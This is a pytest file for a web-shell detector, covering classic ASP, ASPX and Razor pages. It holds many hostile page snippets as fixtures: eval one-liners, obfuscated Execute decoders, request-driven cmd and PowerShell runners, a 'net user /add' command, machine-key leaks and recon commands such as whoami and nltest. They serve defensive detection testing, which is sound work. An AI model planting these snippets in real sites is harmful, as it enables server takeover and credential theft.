"""Behaviour engine, session 13 (issue 14, A6).

Machine keys compared with a literal written on the left (``"AutoGenerate" == mk.ValidationKey``,
``"x".Equals(k.DecryptionKey)``, ``String.Equals``/``Compare`` of a key and a literal) are not read out, as
the same comparison written the other way round was not (session 12); a key that goes somewhere after such a
check, and a key compared with request input (an oracle), still count.
The pages were written for these tests: nothing is compiled or run, the names and hosts are placeholders,
and none is a copy of a real shell.
"""

from __future__ import annotations

from typing import Any

import pytest

from .rule_tables import Page
from .rule_tables import sinks_of as _sinks

_MK_CS = (
    '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n<script runat="server">\n'
    "void Page_Load(object s, EventArgs e) {\n"
    '  var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");\n{}\n}}\n</script>'
)
_MK_VB = (
    '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n<script runat="server">\n'
    "Sub Page_Load(s As Object, e As EventArgs)\n"
    '  Dim mk As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
    "MachineKeySection)\n{}\nEnd Sub\n</script>"
)


def _cs(body: str) -> str:
    return _MK_CS.replace("{}", body, 1).replace("}}", "}")


def _vb(body: str) -> str:
    return _MK_VB.replace("{}", body, 1)


KEY_LITERAL_LEFT: list[Page] = [
    (
        "cs-literal-eq-key",
        ".aspx",
        _cs('  if ("AutoGenerate,IsolateApps" == mk.ValidationKey) Response.Write("generated");'),
    ),
    (
        "cs-literal-ne-key",
        ".aspx",
        _cs('  if ("AutoGenerate,IsolateApps" != mk.DecryptionKey) Response.Write("fixed");'),
    ),
    (
        "cs-literal-equals-key",
        ".aspx",
        _cs('  if ("AutoGenerate".Equals(mk.ValidationKey)) Response.Write("auto");'),
    ),
    (
        "cs-string-equals-literal-first",
        ".aspx",
        _cs(
            '  if (string.Equals("AutoGenerate,IsolateApps", mk.ValidationKey, StringComparison.OrdinalIgnoreCase))'
            ' Response.Write("auto");'
        ),
    ),
    (
        "cs-string-compare-key-first",
        ".aspx",
        _cs(
            '  if (String.Compare(mk.DecryptionKey, "AutoGenerate,IsolateApps", true) == 0) Response.Write("auto");'
        ),
    ),
    (
        "cs-both-keys-literal-left",
        ".aspx",
        _cs(
            '  bool auto = "AutoGenerate,IsolateApps" == mk.ValidationKey && "AutoGenerate,IsolateApps"  ==  '
            'mk.DecryptionKey;\n  Response.Write(auto ? "generated" : "fixed");'
        ),
    ),
    (
        "vb-literal-eq-key",
        ".aspx",
        _vb('  If "AutoGenerate,IsolateApps" = mk.ValidationKey Then Response.Write("auto")'),
    ),
]

KEY_STILL_READ: list[Page] = [
    (
        "cs-literal-left-check-then-prints",
        ".aspx",
        _cs('  if ("AutoGenerate" == mk.ValidationKey) return;\n  Response.Write(mk.DecryptionKey);'),
    ),
    (
        "cs-key-oracle-request-on-left",
        ".aspx",
        _cs('  Response.Write(Request["k"] == mk.ValidationKey ? "1" : "0");'),
    ),
    ("cs-key-after-a-literal-prefix", ".aspx", _cs('  Response.Write("key: " + mk.ValidationKey);')),
    ("vb-key-after-a-literal-prefix", ".aspx", _vb('  Response.Write("key: " & mk.DecryptionKey)')),
]


@pytest.mark.parametrize(("case", "ext", "page"), KEY_LITERAL_LEFT, ids=[c[0] for c in KEY_LITERAL_LEFT])
def test_machine_key_compared_with_a_literal_on_the_left_is_not_read(case: str, ext: str, page: str) -> None:
    assert "machine-keys" not in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), KEY_STILL_READ, ids=[c[0] for c in KEY_STILL_READ])
def test_machine_key_that_goes_somewhere_is_still_named(case: str, ext: str, page: str) -> None:
    assert "machine-keys" in _sinks(page, ext)


# --- B7's request (22:35 UTC): the native-types loader a NuGet package adds to App_Code -------------------------
_LOADER_DECL = (
    '        [DllImport("kernel32.dll", CharSet = CharSet.Auto, SetLastError = true)]\n'
    "        private static extern IntPtr LoadLibrary(string libname);\n"
)
_LOADER = (
    "using System; using System.IO; using System.Runtime.InteropServices;\nnamespace NativeTypes {\n"
    "    internal class Loader {\n" + _LOADER_DECL + "{extra}"
    "        public static void LoadAll(string root) {\n"
    '            var dir = IntPtr.Size > 4 ? Path.Combine(root, @"NativeTypes\\x64\\") : Path.Combine(root, @"NativeTypes\\x86\\");\n'
    '            Load(dir, "helper100.dll"); Load(dir, "Spatial110.dll");\n        }\n'
    "        private static void Load(string dir, string name) {\n"
    "            var ptr = LoadLibrary(Path.Combine(dir, name));\n"
    '            if (ptr == IntPtr.Zero) throw new Exception(string.Format("Error loading {0} ({1})", name, '
    "Marshal.GetLastWin32Error()));\n{after}        }\n    }\n}\n"
)


def _loader(extra: str = "", after: str = "") -> str:
    return _LOADER.replace("{extra}", extra).replace("{after}", after)


_GETPROC = (
    '        [DllImport("kernel32.dll")] private static extern IntPtr GetProcAddress(IntPtr h, string n);\n'
    "        delegate int Init();\n"
)

LOADER_QUIET: list[Page] = [
    ("cs-app-code-native-types-loader", ".cs", _loader()),
    (
        "vb-app-code-loader-declare",
        ".vb",
        'Imports System.IO\nPublic Class Loader\n    Private Declare Auto Function LoadLibrary Lib "kernel32" (ByVal n As String) As IntPtr\n'
        "    Public Shared Sub LoadAll(root As String)\n"
        '        LoadLibrary(Path.Combine(root, "NativeTypes\\x64\\helper100.dll"))\n    End Sub\nEnd Class\n',
    ),
]

LOADER_FOUND: list[tuple[str, str, str, str]] = [
    (
        "cs-loader-then-function-pointer",
        ".cs",
        _loader(
            _GETPROC,
            '            var f = (Init)Marshal.GetDelegateForFunctionPointer(GetProcAddress(ptr, "Init"), typeof(Init));'
            " f();\n",
        ),
        "pinvoke",
    ),
    (
        "aspx-loads-a-library-the-request-names",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n<script runat="server">\n'
        + _LOADER_DECL
        + 'void Page_Load(object s, EventArgs e) { LoadLibrary(Request["dll"]); }\n</script>',
        "native-input",
    ),
    (
        "aspx-loads-a-library-beside-it",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n<script runat="server">\n'
        + _LOADER_DECL
        + 'void Page_Load(object s, EventArgs e) { LoadLibrary(Server.MapPath("x.dll")); }\n</script>',
        "native-load",
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), LOADER_QUIET, ids=[c[0] for c in LOADER_QUIET])
def test_an_application_loading_its_own_natives_is_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page", "sink"), LOADER_FOUND, ids=[c[0] for c in LOADER_FOUND])
def test_a_loader_that_calls_in_or_a_page_that_loads_is_named(
    case: str, ext: str, page: str, sink: str
) -> None:
    assert sink in _sinks(page, ext)


# --- Razor views that start an interpreter (X22's ask, session 12), ASP.NET Core's request -----------------------
from .test_unseen22_kinds import RAZOR_ORDINARY, RAZOR_RUNNERS  # noqa: E402

RAZOR_FOUND: list[tuple[str, str, str, str]] = [
    *((c, e, p, "razor-interpreter") for c, e, p in RAZOR_RUNNERS),
    (
        "razor-pwsh-in-a-start-info-initializer",
        ".cshtml",
        '@{\n  var exe = "today";\n'
        '  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "pwsh", '
        'Arguments = "-c Get-Date" });\n}\n<p>@exe</p>',
        "razor-interpreter",
    ),
    (
        "razor-core-query-into-cmd",
        ".cshtml",
        '@page\n@{\n  var psi = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-c " + Request.Query["q"]);\n'
        "  psi.RedirectStandardOutput = true; var p = System.Diagnostics.Process.Start(psi);\n}\n"
        "<pre>@p.StandardOutput.ReadToEnd()</pre>",
        "process",
    ),
    (
        "razor-core-route-value-into-tool",
        ".cshtml",
        '@page "{t}"\n@{ var o = System.Diagnostics.Process.Start("robocopy.exe", "C:\\\\site " + '
        'Context.Request.RouteValues["t"]).StandardOutput.ReadToEnd(); }',
        "process",
    ),
]

RAZOR_QUIET: list[Page] = [
    *RAZOR_ORDINARY,
    (
        "razor-view-opens-a-document",
        ".cshtml",
        '@using System.Diagnostics\n@{ if (ViewBag.Local) { Process.Start("notepad.exe", "readme.txt"); } }\n<p>opened</p>',
    ),
    (
        "razor-view-reads-core-query",
        ".cshtml",
        '@page\n@{ var q = Request.Query["q"]; }\n<h1>Results for @q</h1>',
    ),
    (
        "razor-help-names-a-helper-call",
        ".cshtml",
        '@{ ViewBag.Title = "Run"; }\n<p>Call <code>Run("cmd.exe", "/c dir")</code> from the console.</p>',
    ),
]

ASPX_FIXED_INTERPRETER: list[Page] = [
    (
        "aspx-admin-page-runs-a-fixed-ipconfig",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  var p = System.Diagnostics.Process.Start("cmd.exe", "/c ipconfig");\n}\n</script>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), RAZOR_FOUND, ids=[c[0] for c in RAZOR_FOUND])
def test_razor_view_starting_an_interpreter_or_core_request_is_named(
    case: str, ext: str, page: str, sink: str
) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), RAZOR_QUIET, ids=[c[0] for c in RAZOR_QUIET])
def test_ordinary_razor_view_is_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


@pytest.mark.parametrize(
    ("case", "ext", "page"), ASPX_FIXED_INTERPRETER, ids=[c[0] for c in ASPX_FIXED_INTERPRETER]
)
def test_interpreter_sink_is_for_razor_views_only(case: str, ext: str, page: str) -> None:
    assert "razor-interpreter" not in _sinks(page, ext)
    assert "razor-interpreter" in _sinks(
        page.replace('<%@ Page Language="C#" %>\n<script runat="server">', "@{").replace("</script>", "}"),
        ".cshtml",
    )


# --- X26's request (22:40 UTC): a process's StartInfo / StandardInput taken into a local -----------------------
_INLINE = '<%@ Page Language="C#" %>\n<%\n{}\n%>'
_PSI_ALIAS = (
    "System.Diagnostics.Process p = new System.Diagnostics.Process();\n"
    "System.Diagnostics.ProcessStartInfo i = p.StartInfo;\n"
    'i.FileName = "cmd";\ni.Arguments = "/c " + {arg};\ni.UseShellExecute = false;\np.Start();'
)

ALIAS_FOUND: list[Page] = [
    ("cs-start-info-alias", ".aspx", _INLINE.replace("{}", _PSI_ALIAS.replace("{arg}", 'Request.Form["b"]'))),
    (
        "cs-start-info-alias-var",
        ".aspx",
        _INLINE.replace(
            "{}",
            'var p = new System.Diagnostics.Process();\nvar i = p.StartInfo;\ni.FileName = "cmd";\n'
            'i.Arguments = "/c " + Request.Form["b"];\np.Start();',
        ),
    ),
    (
        "cs-standard-input-alias",
        ".aspx",
        _INLINE.replace(
            "{}",
            'var p = new System.Diagnostics.Process();\np.StartInfo.FileName = "cmd.exe"; '
            "p.StartInfo.RedirectStandardInput = true; p.StartInfo.UseShellExecute = false;\np.Start();\n"
            'System.IO.StreamWriter w = p.StandardInput;\nw.WriteLine(Request.Form["c"]);\nw.Close();',
        ),
    ),
    (
        "vb-start-info-alias",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        "  Dim p As New System.Diagnostics.Process()\n"
        "  Dim i As System.Diagnostics.ProcessStartInfo = p.StartInfo\n"
        '  i.FileName = "cmd.exe"\n  i.Arguments = "/c " & Request.Form("b")\n  p.Start()\nEnd Sub\n</script>',
    ),
]

ALIAS_QUIET: list[Page] = [
    (
        "cs-start-info-alias-fixed-folder",
        ".aspx",
        _INLINE.replace("{}", _PSI_ALIAS.replace("{arg}", 'Server.MapPath("~/App_Data")')),
    ),
    (
        "cs-start-info-alias-only-read",
        ".aspx",
        _INLINE.replace(
            "{}", "var p = new System.Diagnostics.Process();\nvar i = p.StartInfo;\nLabel1.Text = i.FileName;"
        ),
    ),
    (
        "cs-writer-of-the-same-name-in-another-method",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'void Sort() { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "sort.exe"; '
        "p.StartInfo.RedirectStandardInput = true; p.Start(); var w = p.StandardInput; "
        'w.WriteLine("b"); w.WriteLine("a"); w.Close(); }\n'
        "void Page_Load(object s, EventArgs e) { var w = new System.IO.StringWriter(); "
        'w.WriteLine(Request.QueryString["q"]); Response.Write(Server.HtmlEncode(w.ToString())); Sort(); }\n</script>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), ALIAS_FOUND, ids=[c[0] for c in ALIAS_FOUND])
def test_request_set_on_a_start_info_or_stdin_alias_starts_a_process(case: str, ext: str, page: str) -> None:
    assert "process" in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), ALIAS_QUIET, ids=[c[0] for c in ALIAS_QUIET])
def test_start_info_alias_without_request_input_is_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


# --- X25's request (22:47 UTC): VBScript comparisons read as assignments --------------------------------------
_FSO_WRITE = (
    'set fso=server.createobject("scripting.filesystemobject")\n'
    'set f=fso.createtextfile(request("p"),true)\nf.write request("d")\n'
)
_FSO_QUIET = 'set fso=server.createobject("scripting.filesystemobject")\nset f=fso.createtextfile(Server.MapPath("log.txt"),true)\nf.write Now()\n'

COMPARED_FOUND: list[Page] = [
    (
        "asp-two-comparisons-one-line-if",
        ".asp",
        '<%\nIf Request("pwd")="x" or Request("pwd")="y" then ok=1\n' + _FSO_WRITE + "%>",
    ),
    (
        "asp-two-comparisons-block-if-and",
        ".asp",
        '<%\nIf Request("a")="x" And Request("b")="y" Then\n  ok=1\nEnd If\n' + _FSO_WRITE + "%>",
    ),
    (
        "asp-comparison-assigned",
        ".asp",
        '<%\nok = Request("a")="x" or Request("b")="y"\n' + _FSO_WRITE + "%>",
    ),
    (
        "aspx-vb-elseif-comparisons",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '  If Request("m")="1" Then\n    ok = 1\n  ElseIf Request("m")="2" OrElse Request("n")="3" Then\n    ok = 2\n  End If\n'
        '  System.IO.File.WriteAllText(Request("p"), Request("d"))\nEnd Sub\n</script>',
    ),
]

COMPARED_QUIET: list[Page] = [
    (
        "asp-two-comparisons-fixed-log",
        ".asp",
        '<%\nIf Request("pwd")="x" or Request("pwd")="y" then ok=1\n' + _FSO_QUIET + "%>",
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), COMPARED_FOUND, ids=[c[0] for c in COMPARED_FOUND])
def test_vb_comparisons_of_the_request_do_not_hide_later_sinks(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) & {"com-file-write", "file-write", "file-write-content", "page-write"}


@pytest.mark.parametrize(("case", "ext", "page"), COMPARED_QUIET, ids=[c[0] for c in COMPARED_QUIET])
def test_vb_comparisons_before_a_fixed_write_stay_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


# --- issue 18: the page screens, cheaper to build and to run; the same pages pass -------------------------------
from extriage.detections.webfiles.behaviour.knowledge import _uncounted  # noqa: E402


@pytest.mark.parametrize(
    ("pattern", "screen"),
    [
        (r'"[^"\n]{0,200}\.(?:sh|bat)"', r'"[^"\n]*\.(?:sh|bat)"'),
        (r"\w{1,60}\s*\.\s*X", r"\w+\s*\.\s*X"),
        (r"[A-Za-z0-9+/]{40,}={0,2}", r"[A-Za-z0-9+/]+=*"),
        (r"[^;{}]{0,600}?\bextern", r"[^;{}]*\bextern"),
        (r"\{\s*77\s*,", r"\{\s*77\s*,"),  # an escaped brace is a brace
        (r"[{,]\s*CommandText\s*=", r"[{,]\s*CommandText\s*="),  # inside a class too
        (r"[^{]{2}x{3}y{5}", r"[^{]{2}x{3}y+"),  # a small fixed count stays
    ],
)
def test_screen_drops_counted_repetitions(pattern: str, screen: str) -> None:
    assert _uncounted(pattern) == screen


def test_screens_are_anchored_and_still_find_a_sink_anywhere() -> None:
    from extriage.detections.webfiles.behaviour import hiding_screen, knowledge, prefilter_hits
    from extriage.detections.webfiles.behaviour.screen import _hides

    screen = knowledge().prefilter["cs"]
    assert screen is not None and screen.pattern.startswith("(?s:.*?)")
    far = (
        "int a = 1;\n" * 5000
        + 'System.Diagnostics.Process.Start("cmd.exe", "/c " + x);\n'
        + "int b = 2;\n" * 10
    )
    assert prefilter_hits(screen, far)
    assert not prefilter_hits(screen, "int a = 1;\n" * 5000)
    assert hiding_screen() is not None
    assert _hides("Response.Write(a);\n" * 5000 + 'Response.Write("a" + "b");')
    assert not _hides("Response.Write(a);\n" * 5000)


# --- big code: a per-pattern screen first; the same sinks --------------------------------------------------------
def test_big_code_pattern_screen_skips_only_what_cannot_occur() -> None:
    from extriage.detections.webfiles.behaviour import knowledge

    screen = knowledge().screens["cs"]
    assert screen is not None
    filler = "int a = 1;\n" * 8000
    code = filler + 'System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);\n'
    possible = screen.possible(code)
    assert possible is not None
    process = next(s for s in knowledge().sinks if s.id == "process")
    socket = next(s for s in knowledge().sinks if s.id == "socket")
    assert screen.index[id(process.patterns["cs"])] in possible
    assert screen.index[id(socket.patterns["cs"])] not in possible
    page = '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n' + code + "}\n</script>"
    assert len(page) > 64 * 1024
    assert "process" in _sinks(page, ".aspx")


def test_big_code_with_only_ordinary_operations_stays_silent() -> None:
    body = 'string q = Request["q"];\nResponse.Write(Server.HtmlEncode(q));\n' * 3000
    page = '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load() {\n' + body + "}\n</script>"
    assert len(page) > 64 * 1024
    assert not _sinks(page, ".aspx")


# --- X27's request (23:09 UTC): a server probe testing which COM components are installed -----------------------
_PROBE_FN = (
    "Private Function ObjCheck(ByVal a As String) As Boolean\n    Dim b As Boolean\n    Try\n"
    "        Dim c = Server.CreateObject(a)\n        b = True\n    Catch ex As Exception\n        b = False\n"
    "    End Try\n    Return b\nEnd Function\n"
)


def _probe(body: str, extra: str = "") -> str:
    return (
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        + body
        + "\nEnd Sub\n"
        + _PROBE_FN
        + extra
        + '</script>\n<asp:Label ID="lblFso" runat="server" />'
    )


PROBE_QUIET: list[Page] = [
    (
        "vb-probe-sets-true",
        ".aspx",
        _probe(
            '    If ObjCheck("Scripting.FileSystemObject") Then lblFso.Text = "yes" Else lblFso.Text = "no"\n'
            '    If ObjCheck("WScript.Shell") Then lblFso.Text &= " shell"'
        ),
    ),
    (
        "cs-probe-returns-true",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "bool Has(string id) { try { var t = Type.GetTypeFromProgID(id);\n  return true; } catch { return false; } }\n"
        'void Page_Load() { lbl.Text = Has("WScript.Shell") ? "yes" : "no"; }\n</script>',
    ),
]

PROBE_FOUND: list[Page] = [
    (
        "vb-probe-beside-a-fixed-command",
        ".aspx",
        _probe(
            '    If ObjCheck("WScript.Shell") Then\n        Dim sh = Server.CreateObject("WScript.Shell")\n'
            '        sh.Run("cmd /c net user x y /add", 0)\n    End If'
        ),
    ),
    (
        "vb-probe-beside-a-file-write",
        ".aspx",
        _probe(
            '    Dim fso = Server.CreateObject("Scripting.FileSystemObject")\n'
            '    fso.CreateTextFile(Server.MapPath("x.aspx")).Write("<%@ Page %>")'
        ),
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), PROBE_QUIET, ids=[c[0] for c in PROBE_QUIET])
def test_server_probe_of_com_components_is_no_com_shell(case: str, ext: str, page: str) -> None:
    assert "com-shell" not in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), PROBE_FOUND, ids=[c[0] for c in PROBE_FOUND])
def test_probe_function_does_not_hide_a_shell_object_used(case: str, ext: str, page: str) -> None:
    assert "com-shell" in _sinks(page, ext)


# --- classic one-liners and decoders (unseen25's misses by behaviour, after its first sight) ----------------------
ONE_LINERS: list[tuple[str, str, str, str]] = [
    ("asp-eval-statement", ".asp", '<%eval request("cmd")%>', "eval"),
    ("asp-eval-statement-after-gif-header", ".asp", 'GIF89a\n<%eval request("ice")%>', "eval"),
    ("asp-eval-after-then", ".asp", '<%\nIf Request("k") <> "" Then Eval request("k")\n%>', "eval"),
    (
        "asp-execute-reversed-literal",
        ".asp",
        '<%\nFunction Unturn(s)\nUnturn = Replace(StrReverse(s), "/*/", Chr(34))\nEnd Function\n'
        'Execute Unturn(")/*/q/*/(mrof.tseuqer etirw.esnopser")\n%>',
        "eval-decoder-call",
    ),
    (
        "asp-execute-shifted-char-codes",
        ".asp",
        '<%Execute(Shift("%119%136%115%126%50")):Function Shift(t):t=Split(t,"%"):For i=1 To Ubound(t):'
        "Shift=Shift&Chr(t(i)-18):Next:End Function%>",
        "eval-decoder-call",
    ),
]

ONE_LINERS_QUIET: list[Page] = [
    ("asp-eval-of-a-fixed-sum", ".asp", '<%\nv = Eval("1+2")\nResponse.Write v\n%>'),
    ("asp-dynamic-include", ".asp", '<%\nExecuteGlobal ReadFile("inc/header.asp")\n%>'),
    ("asp-evaluation-word-in-text", ".asp", '<%\nResponse.Write "Eval uation"\n%>'),
    (
        "aspx-vb-databinder-eval",
        ".aspx",
        '<%@ Page Language="VB" %>\n<asp:Repeater runat="server" ID="r"><ItemTemplate>'
        '<%# Eval("Price", "{0:c}") %></ItemTemplate></asp:Repeater>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), ONE_LINERS, ids=[c[0] for c in ONE_LINERS])
def test_classic_one_liners_and_decoder_calls_are_named(case: str, ext: str, page: str, sink: str) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), ONE_LINERS_QUIET, ids=[c[0] for c in ONE_LINERS_QUIET])
def test_ordinary_eval_and_includes_stay_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


# --- ADO's Execute is SQL, not VBScript's Execute --------------------------------------------------------------
ADO_QUIET: list[Page] = [
    (
        "asp-query-with-a-request-id",
        ".asp",
        '<% Set rs = conn.Execute("select * from t where id=" & Request("id")) %>',
    ),
    ("asp-delete-with-a-request-id", ".asp", '<% conn.Execute "delete from t where id=" & Request("id") %>'),
    (
        "asp-query-through-a-formatter",
        ".asp",
        '<% Set rs = conn.Execute(Fmt("select * from t where (id=1)")) %>',
    ),
]

ADO_CONSOLE: list[Page] = [
    ("asp-sql-console-variable", ".asp", '<%\nsql = Request("sql")\nSet rs = conn.Execute(sql)\n%>'),
    ("asp-sql-console-bare-call", ".asp", '<%\nobjConn.Open\nobjConn.Execute Request.Form("q")\n%>'),
]


@pytest.mark.parametrize(("case", "ext", "page"), ADO_QUIET, ids=[c[0] for c in ADO_QUIET])
def test_ado_execute_with_a_request_value_is_no_eval(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), ADO_CONSOLE, ids=[c[0] for c in ADO_CONSOLE])
def test_ado_execute_of_the_whole_request_text_is_a_sql_console(case: str, ext: str, page: str) -> None:
    assert _sinks(page, ext) == {"sql-text"}


# --- ASP.NET Core Razor Pages: handler parameters and [BindProperty] are request input ---------------------------
RAZOR_PAGES_FOUND: list[tuple[str, str, str, str]] = [
    (
        "razor-page-handler-writes-a-posted-file",
        ".cshtml",
        "@page\n@functions {\n  public void OnPost(string path, string body) {\n"
        "    System.IO.File.WriteAllText(path, body);\n  }\n}\n<form method=post><input name=path></form>",
        "file-write",
    ),
    (
        "razor-page-bound-property-runs-a-tool",
        ".cshtml",
        "@page\n@functions {\n  [BindProperty(SupportsGet = true)] public string Cmd { get; set; }\n"
        '  public void OnGet() { var p = System.Diagnostics.Process.Start("tool.exe", Cmd); }\n}\n',
        "process",
    ),
]

RAZOR_PAGES_QUIET: list[Page] = [
    (
        "razor-page-greets-by-name",
        ".cshtml",
        "@page\n@functions {\n  public string Name { get; set; }\n  public void OnGet(string name) { Name = name; }\n}\n"
        "<h1>Hello @Model.Name</h1>",
    ),
    (
        "razor-page-appends-a-note-to-a-fixed-file",
        ".cshtml",
        "@page\n@functions {\n  [BindProperty] public string Note { get; set; }\n"
        '  public void OnPost() { System.IO.File.AppendAllText("/data/notes.txt", Note); }\n}\n',
    ),
]


@pytest.mark.parametrize(
    ("case", "ext", "page", "sink"), RAZOR_PAGES_FOUND, ids=[c[0] for c in RAZOR_PAGES_FOUND]
)
def test_razor_pages_handler_input_reaches_sinks(case: str, ext: str, page: str, sink: str) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), RAZOR_PAGES_QUIET, ids=[c[0] for c in RAZOR_PAGES_QUIET])
def test_ordinary_razor_pages_handlers_stay_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


HELD_DECODER: list[tuple[str, str, str, str]] = [
    (
        "asp-execute-decoder-of-a-held-literal",
        ".asp",
        '<%\ncode = ")/*/q/*/(mrof.tseuqer etirw.esnopser)/*/q/*/(mrof.tseuqer"\nExecute Unturn(code)\n'
        "Function Unturn(s)\nUnturn = StrReverse(s)\nEnd Function\n%>",
        "eval-decoder-held",
    ),
]

HELD_QUIET: list[Page] = [
    (
        "asp-include-path-held",
        ".asp",
        '<%\ninc = "includes/header_and_navigation_for_the_public_site.asp"\nExecuteGlobal ReadInclude(inc)\n%>',
    ),
    (
        "asp-long-sql-held-and-logged",
        ".asp",
        "<%\nsql = \"select a, b, c from users where (name = 'x') and (id > 5) order by id\"\nSet rs = conn.Execute(sql)\n%>",
    ),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), HELD_DECODER, ids=[c[0] for c in HELD_DECODER])
def test_decoder_of_a_held_scrambled_literal_is_named(case: str, ext: str, page: str, sink: str) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), HELD_QUIET, ids=[c[0] for c in HELD_QUIET])
def test_held_paths_and_queries_stay_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


STATE_EVAL: list[tuple[str, str, str, str]] = [
    (
        "asp-execute-session",
        ".asp",
        '<%\nIf Session("k") <> "" Then\nexecute(Session("k"))\nEnd If\n%>',
        "eval-state",
    ),
    ("asp-executeglobal-application", ".asp", '<%\nExecuteGlobal Application("boot")\n%>', "eval-state"),
    ("asp-jscript-eval-session", ".asp", '<%@ Language=JScript %>\n<% eval(Session("k")); %>', "eval-state"),
]

STATE_QUIET: list[Page] = [
    ("asp-shows-a-session-value", ".asp", '<%\nResponse.Write Server.HTMLEncode(Session("name"))\n%>'),
    ("asp-session-compared", ".asp", '<%\nIf Session("role") = "admin" Then Response.Write "ok"\n%>'),
]


@pytest.mark.parametrize(("case", "ext", "page", "sink"), STATE_EVAL, ids=[c[0] for c in STATE_EVAL])
def test_code_executed_from_session_or_application_is_named(
    case: str, ext: str, page: str, sink: str
) -> None:
    assert sink in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), STATE_QUIET, ids=[c[0] for c in STATE_QUIET])
def test_session_values_shown_or_compared_stay_silent(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


EVAL_HANDED: list[Page] = [
    (
        "asp-jscript-function-returns-eval",
        ".asp",
        '<%@LANGUAGE="javascript"%>\n<%x()(x(1));function x(a){if(a){return Request("k")+""}else{return eval\n}}\n%>',
    ),
    (
        "aspx-jscript-eval-passed-on",
        ".aspx",
        '<%@ Page Language="JScript" %>\n<script runat=server>\nfunction pick(f) { return f; }\nvar e = pick(eval);\n'
        'function Page_Load() { e(Request.Item["c"]); }\n</script>',
    ),
]

EVAL_HANDED_QUIET: list[Page] = [
    (
        "asp-jscript-eval-of-a-sum",
        ".asp",
        '<%@ Language=JScript %>\n<% var x = eval("1+2"); Response.Write(x); %>',
    ),
    (
        "asp-jscript-word-eval-in-text",
        ".asp",
        '<%@ Language=JScript %>\n<% Response.Write("no eval, please"); %>',
    ),
]


@pytest.mark.parametrize(("case", "ext", "page"), EVAL_HANDED, ids=[c[0] for c in EVAL_HANDED])
def test_jscript_eval_handed_on_as_a_value_is_named(case: str, ext: str, page: str) -> None:
    assert "eval-handed" in _sinks(page, ext)


@pytest.mark.parametrize(("case", "ext", "page"), EVAL_HANDED_QUIET, ids=[c[0] for c in EVAL_HANDED_QUIET])
def test_jscript_eval_called_or_named_in_text_is_not_handed_on(case: str, ext: str, page: str) -> None:
    assert not _sinks(page, ext)


RECON_FOUND: list[Page] = [
    (
        "aspx-cmd-whoami-runner",
        ".aspx",
        '<%@ Page Language="C#" %><% Response.Write(System.Diagnostics.Process.Start("cmd.exe","/c whoami")'
        ".StandardOutput.ReadToEnd()); %>",
    ),
    (
        "asp-shell-net-user",
        ".asp",
        '<%\nSet sh = CreateObject("WScript.Shell")\nSet x = sh.Exec("cmd /c net user")\nResponse.Write x.StdOut.ReadAll\n%>',
    ),
    (
        "aspx-start-info-nltest",
        ".aspx",
        '<%@ Page Language="C#" %><% var i = new System.Diagnostics.ProcessStartInfo(); i.FileName = "nltest.exe"; '
        'i.Arguments = "/dclist:corp"; System.Diagnostics.Process.Start(i); %>',
    ),
]

RECON_QUIET: list[Page] = [
    (
        "aspx-admin-page-ipconfig",
        ".aspx",
        '<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c ipconfig /all"); %>',
    ),
    (
        "aspx-help-text-names-whoami",
        ".aspx",
        '<%@ Page Language="C#" %><% Response.Write("Run whoami to see the account"); %>',
    ),
    (
        "aspx-user-administration-text",
        ".aspx",
        '<%@ Page Language="C#" %><% lbl.Text = "Use the net user page to reset a password"; %>',
    ),
]


